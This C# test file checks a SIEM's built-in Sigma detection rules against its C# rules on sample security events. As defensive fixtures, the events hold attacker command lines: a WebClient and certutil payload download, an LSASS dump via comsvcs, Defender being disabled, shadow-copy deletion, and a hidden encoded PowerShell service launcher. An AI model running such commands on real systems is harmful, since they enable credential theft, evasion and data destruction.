using System.Text.RegularExpressions;
using Llama3Siem.Prompts.Detection;
using Llama3Siem.Prompts.Detection.Sigma;
using Llama3Siem.Prompts.Events;
using Llama3Siem.Prompts.Knowledge;
using Llama3Siem.Prompts.Tests.Events;
using static Llama3Siem.Prompts.Tests.DetectionCases;

namespace Llama3Siem.Prompts.Tests.Detection;

/// <summary>
/// The built-in Sigma rules (Detection/BuiltIn): they load, say what they detect, and find on our events the
/// techniques the C# rules of <see cref="DetectionRules"/> find, apart from the differences named here.
/// </summary>
public sealed partial class BuiltInSigmaRulesTests
{
    private const string ResourcePrefix = "Llama3Siem.Prompts.Detection.BuiltIn.";

    /// <summary>Counts over an incident, written as Sigma correlation rules on their own; never fire on one event.</summary>
    private static readonly string[] ThresholdRules = ["failed-logon-burst", "mass-file-encryption"];

    /// <summary>
    /// Sample events on which the Sigma rules deliberately differ from the C# rules: the techniques the Sigma rules
    /// find there instead, and why.
    /// </summary>
    private static readonly Dictionary<string, (string[] Sigma, string Why)> KnownDifferences = new(StringComparer.Ordinal)
    {
        // Empire's stager keeps its WebClient in a variable ($wc.DownloadData): the C# expression wanted
        // "Net.WebClient).Download..." in one piece.
        ["empire_psremoting_stager_2020-09-20170827.json:47"] = (["T1105"], "script block downloads through a WebClient variable"),
        ["empire_psremoting_stager_2020-09-20170827.json:78"] = (["T1027", "T1059.001", "T1105"], "pipeline downloads through a WebClient variable"),
        ["empire_psremoting_stager_2020-09-20170827.json:79"] = (["T1027", "T1059.001", "T1105"], "pipeline downloads through a WebClient variable"),
        ["empire_psremoting_stager_2020-09-20170827.json:80"] = (["T1027", "T1059.001", "T1105"], "pipeline downloads through a WebClient variable"),

        // whoami's exit (4689): its start (Sysmon 1 and 4688, lines 107 and 109) already is the discovery.
        ["empire_psremoting_stager_2020-09-20170827.json:110"] = ([], "the exit of a process is not a second discovery"),
    };

    private static readonly SigmaLoadResult Loaded = BuiltInSigmaRules.Load();
    private static readonly SigmaRuleSet AllRules = new(Loaded.Rules);
    private static readonly Dictionary<string, SigmaRuleSet> RuleByName = Loaded.Rules.ToDictionary(NameOf, rule => new SigmaRuleSet([rule]));

    public static TheoryData<string> TruePositives => new(BuiltInRuleExamples.All.Where(e => e.Fires).Select(e => e.Key));

    public static TheoryData<string> NearMisses => new(BuiltInRuleExamples.All.Where(e => !e.Fires).Select(e => e.Key));

    [Fact]
    public void Every_built_in_file_loads_and_reaches_events_we_normalise()
    {
        var files = ResourceNames();

        Assert.Empty(Loaded.Skipped);
        Assert.Equal(files.Count, Loaded.Rules.Count);
        Assert.All(Loaded.Rules, rule => Assert.True(rule.IsLogsourceMapped, rule.Source));
    }

    [Fact]
    public void Every_rule_has_a_title_a_level_and_one_active_technique_with_its_tactics()
    {
        string[] levels = ["informational", "low", "medium", "high", "critical"];
        Assert.All(Loaded.Rules, rule =>
        {
            Assert.False(string.IsNullOrWhiteSpace(rule.Title), rule.Source);
            Assert.False(string.IsNullOrWhiteSpace(rule.Description), rule.Source);
            Assert.Equal("stable", rule.Status);
            Assert.Equal("Llama3Siem", rule.Author);
            Assert.Contains(rule.Level, levels);
            Assert.NotEmpty(rule.FalsePositives);

            var technique = Assert.Single(rule.Tags, t => TechniqueTag().IsMatch(t));
            Assert.True(ThreatKnowledge.BuiltIn.TryGetActiveTechnique(TechniqueOf(technique)!, out var known), technique);
            var tactics = rule.Tags.Where(t => t != technique).Select(t => t["attack.".Length..]).ToList();
            Assert.NotEmpty(tactics);
            Assert.All(tactics, tactic => Assert.Contains(tactic, known.Tactics));
        });
    }

    [Fact]
    public void Rule_ids_are_unique_version_4_uuids()
    {
        Assert.All(Loaded.Rules, rule => Assert.Equal(4, Guid.Parse(rule.Id).Version));
        Assert.Equal(Loaded.Rules.Count, Loaded.Rules.Select(r => r.Id).Distinct(StringComparer.OrdinalIgnoreCase).Count());
    }

    [Fact]
    public void Each_file_is_named_for_its_rule_and_no_two_rules_share_a_name()
    {
        var names = ResourceNames().Select(resource =>
        {
            var file = Path.GetFileNameWithoutExtension(resource[ResourcePrefix.Length..]);
            var name = NameLine().Match(ResourceText(resource));
            Assert.True(name.Success, $"{file} has no name");
            Assert.Equal(file, name.Groups[1].Value);
            return file;
        }).ToList();

        Assert.Equal(names.Count, names.Distinct(StringComparer.Ordinal).Count());
    }

    [Fact]
    public void Every_csharp_rule_but_the_thresholds_is_rewritten_with_its_technique()
    {
        var rewritten = Loaded.Rules.ToLookup(rule => CSharpRuleOf(NameOf(rule)));

        Assert.DoesNotContain(null, rewritten.Select(group => group.Key));
        Assert.All(DetectionRules.All.Where(r => !ThresholdRules.Contains(r.Name)), csharp =>
        {
            Assert.True(rewritten[csharp.Name].Any(), $"{csharp.Name} has no Sigma rule");
            Assert.All(rewritten[csharp.Name], rule => Assert.Equal([csharp.TechniqueId], Techniques(rule.Tags)));
        });
        Assert.All(ThresholdRules, name => Assert.Empty(rewritten[name]));
    }

    [Fact]
    public void The_sigma_rules_find_what_the_csharp_rules_find_on_their_test_events()
    {
        var events = DetectionRules.All.SelectMany(rule => DetectionCases.PositiveEvents(rule.Name).Select(e => ($"positive of {rule.Name}", e)))
            .Concat(DetectionCases.Benign().Select(e => ($"benign {e.Id}", e)))
            .Concat(DetectionCases.SameTechniqueTwice().Select(e => ($"same technique {e.Id}", e)));

        AssertSameTechniques(events);
    }

    [Fact]
    public void The_sigma_rules_find_what_the_csharp_rules_find_on_the_shipped_samples()
    {
        var events = DetectionCases.SampleEvents().ToList();

        Assert.Contains(events, e => CSharpTechniques(e.Event).Count > 0);
        AssertSameTechniques(events);
    }

    [Fact]
    public void The_sigma_rules_find_what_the_csharp_rules_find_on_the_otrf_samples_but_the_known_differences()
    {
        if (RepositoryFiles.SharedSamples() is null)
        {
            Assert.Skip("The OTRF samples are not here: <repo>/../shared/data/samples is absent.");
        }

        var events = DetectionCases.OtrfEvents().ToList();

        Assert.All(KnownDifferences, known =>
        {
            var evt = Assert.Single(events, e => e.Label == known.Key).Event;
            Assert.Equal(known.Value.Sigma, SigmaTechniques(evt));
            Assert.NotEqual(known.Value.Sigma, CSharpTechniques(evt));
        });
        AssertSameTechniques(events.Where(e => !KnownDifferences.ContainsKey(e.Label)));
    }

    [Theory]
    [MemberData(nameof(TruePositives))]
    public void A_rule_fires_on_its_example(string key)
    {
        var example = BuiltInRuleExamples.All.Single(e => e.Key == key);

        Assert.Single(RuleByName[example.Rule].Match(example.Event));
    }

    [Theory]
    [MemberData(nameof(NearMisses))]
    public void A_rule_stays_quiet_on_its_near_miss(string key)
    {
        var example = BuiltInRuleExamples.All.Single(e => e.Key == key);

        Assert.Empty(RuleByName[example.Rule].Match(example.Event));
    }

    [Fact]
    public void Every_rule_has_a_true_positive_and_a_near_miss_example()
    {
        Assert.All(RuleByName.Keys, name =>
        {
            Assert.Contains(BuiltInRuleExamples.All, e => e.Rule == name && e.Fires);
            Assert.Contains(BuiltInRuleExamples.All, e => e.Rule == name && !e.Fires);
        });
        Assert.All(BuiltInRuleExamples.All, e => Assert.Contains(e.Rule, RuleByName.Keys));
        Assert.Equal(BuiltInRuleExamples.All.Count, BuiltInRuleExamples.All.Select(e => e.Key).Distinct().Count());
    }

    /// <summary>
    /// Forms of the same behaviour the C# expressions were too literal for, each with the technique now found.
    /// </summary>
    public static TheoryData<string, string> CaughtNow => new()
    {
        { "comsvcs MiniDumpW export", "T1003.001" },
        { "sc.exe started by its quoted path", "T1543.003" },
        { "-EncodedCommand after an en dash", "T1059.001" },
        { "WebClient kept in a variable", "T1105" },
        { "certutil /urlcache with a slash", "T1105" },
        { "Set-MpPreference with a colon", "T1562.001" },
        { "Defender switched off in the registry", "T1562.001" },
        { "net user /add without a password", "T1136.001" },
        { "net.exe by its quoted path", "T1087.002" },
    };

    [Theory]
    [MemberData(nameof(CaughtNow))]
    public void The_sigma_rules_catch_forms_the_csharp_rules_missed(string form, string technique)
    {
        var evt = form switch
        {
            "comsvcs MiniDumpW export" => Logged("v", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe comsvcs.dll,MiniDumpW 624 C:\t\l.dmp full"),
            "sc.exe started by its quoted path" => Logged("v", "1", @"C:\Windows\System32\sc.exe", @"""C:\Windows\system32\sc.exe"" \\SRV-FILE02 create UpdSvc binPath= C:\t\u.exe"),
            "-EncodedCommand after an en dash" => Logged("v", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell \u2013enc {Encoded}"),
            "WebClient kept in a variable" => ScriptBlock("v", "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://203.0.113.9/a.exe', \"$env:TEMP\\a.exe\")"),
            "certutil /urlcache with a slash" => Logged("v", "1", @"C:\Windows\System32\certutil.exe", @"certutil /urlcache /split /f http://203.0.113.9/a.exe C:\t\a.exe"),
            "Set-MpPreference with a colon" => ScriptBlock("v", "Set-MpPreference -DisableRealtimeMonitoring:$true"),
            "Defender switched off in the registry" => Logged("v", "13", @"C:\Windows\regedit.exe",
                fields: [("TargetObject", @"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring"), ("Details", "DWORD (0x00000001)")]),
            "net user /add without a password" => Logged("v", "1", @"C:\Windows\System32\net.exe", "net user helpdesk_tmp /add"),
            "net.exe by its quoted path" => Logged("v", "1", @"C:\Windows\System32\net.exe", @"""C:\Windows\system32\net.exe"" group ""Domain Admins"" /domain"),
            _ => throw new ArgumentOutOfRangeException(nameof(form)),
        };

        Assert.DoesNotContain(technique, CSharpTechniques(evt));
        Assert.Contains(technique, SigmaTechniques(evt));
    }

    [Fact]
    public void The_exit_of_a_discovery_tool_is_not_a_second_discovery()
    {
        var exit = EventParsing.Parsed("""
            {"EventID":4689,"Channel":"Security","Hostname":"WS-FIN-07","TimeCreated":"2026-03-02T09:10:03Z",
             "ProcessName":"C:\\Windows\\System32\\whoami.exe","Status":"0x0","SubjectUserName":"j.doe"}
            """);

        Assert.Equal(["T1033"], CSharpTechniques(exit));
        Assert.Empty(SigmaTechniques(exit));
    }

    [Fact]
    public void The_ids_rules_read_alerts_not_names_in_other_suricata_records()
    {
        var http = EventParsing.Parsed("""
            {"timestamp":"2026-03-02T09:00:00.000000+0000","event_type":"http","src_ip":"10.20.1.57","src_port":51000,
             "dest_ip":"13.107.5.88","dest_port":80,"proto":"TCP","http":{"hostname":"telemetry.example.com","url":"/beacon/v2"},
             "host":"ids-core-01"}
            """);

        Assert.Equal(["T1071.001"], CSharpTechniques(http));
        Assert.Empty(SigmaTechniques(http));
    }

    [Fact]
    public void A_tool_named_in_a_script_block_is_left_to_its_own_process_start()
    {
        // The C# rules read a script block as the event's command line. Sigma's process rules read process starts:
        // vssadmin run from the script has its own, and the script-block rules keep to PowerShell's own cmdlets.
        var script = EventParsing.Parsed("""
            {"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS-FIN-07",
             "TimeCreated":"2026-03-02T09:30:00Z","ScriptBlockText":"& vssadmin.exe delete shadows /all /quiet"}
            """);

        Assert.Equal(["T1490"], CSharpTechniques(script));
        Assert.Empty(SigmaTechniques(script));
    }

    [Fact]
    public void A_service_whose_image_path_is_an_encoded_launcher_is_a_service_install_until_it_starts()
    {
        // The C# rules read the image path as the event's command line; the PowerShell it starts is a process start
        // of its own, which the encoded-command rules see.
        var install = EventParsing.Parsed($$"""
            {"EventID":7045,"Channel":"System","Hostname":"SRV-FILE02","TimeCreated":"2026-03-02T09:35:04Z",
             "ServiceName":"UpdSvc","ImagePath":"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {{Encoded}}"}
            """);

        Assert.Equal(["T1027", "T1059.001", "T1543.003"], CSharpTechniques(install));
        Assert.Equal(["T1543.003"], SigmaTechniques(install));
    }

    private static void AssertSameTechniques(IEnumerable<(string Label, SecurityEvent Event)> events)
    {
        var differences = events
            .Select(e => (e.Label, CSharp: CSharpTechniques(e.Event), Sigma: SigmaTechniques(e.Event)))
            .Where(e => !e.CSharp.SequenceEqual(e.Sigma))
            .Select(e => $"{e.Label}: C# [{string.Join(' ', e.CSharp)}], Sigma [{string.Join(' ', e.Sigma)}]")
            .ToList();

        Assert.Empty(differences);
    }

    /// <summary>What DetectionRules.Detect finds in the event alone; the threshold rules never fire on one event.</summary>
    private static List<string> CSharpTechniques(SecurityEvent evt) =>
        DetectionRules.Detect([evt]).Select(d => d.TechniqueId).Order(StringComparer.Ordinal).ToList();

    private static List<string> SigmaTechniques(SecurityEvent evt) =>
        Techniques(AllRules.Match(evt).SelectMany(m => m.Tags));

    private static List<string> Techniques(IEnumerable<string> tags) =>
        tags.Select(TechniqueOf).OfType<string>().Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal).ToList();

    /// <summary><c>attack.t1003.001</c> to <c>T1003.001</c>; null for a tactic or another tag.</summary>
    private static string? TechniqueOf(string tag) =>
        TechniqueTag().IsMatch(tag) ? tag["attack.".Length..].ToUpperInvariant() : null;

    /// <summary>
    /// The C# rule a Sigma rule rewrites: the one of its name, or the longest whose name it extends with
    /// "-shape" where Sigma's logsources split a rule by event shape.
    /// </summary>
    private static string? CSharpRuleOf(string name) =>
        DetectionRules.All.Select(r => r.Name)
            .Where(csharp => name == csharp || name.StartsWith(csharp + "-", StringComparison.Ordinal))
            .MaxBy(csharp => csharp.Length);

    private static string NameOf(SigmaRule rule) => Path.GetFileNameWithoutExtension(rule.Source!["builtin:".Length..]);

    private static List<string> ResourceNames() =>
        typeof(BuiltInSigmaRules).Assembly.GetManifestResourceNames()
            .Where(name => name.StartsWith(ResourcePrefix, StringComparison.Ordinal))
            .Order(StringComparer.Ordinal)
            .ToList();

    private static string ResourceText(string resource)
    {
        using var stream = typeof(BuiltInSigmaRules).Assembly.GetManifestResourceStream(resource)!;
        using var reader = new StreamReader(stream);
        return reader.ReadToEnd();
    }

    [GeneratedRegex(@"^attack\.t\d{4}(\.\d{3})?$")]
    private static partial Regex TechniqueTag();

    [GeneratedRegex(@"^name: (\S+)$", RegexOptions.Multiline)]
    private static partial Regex NameLine();
}
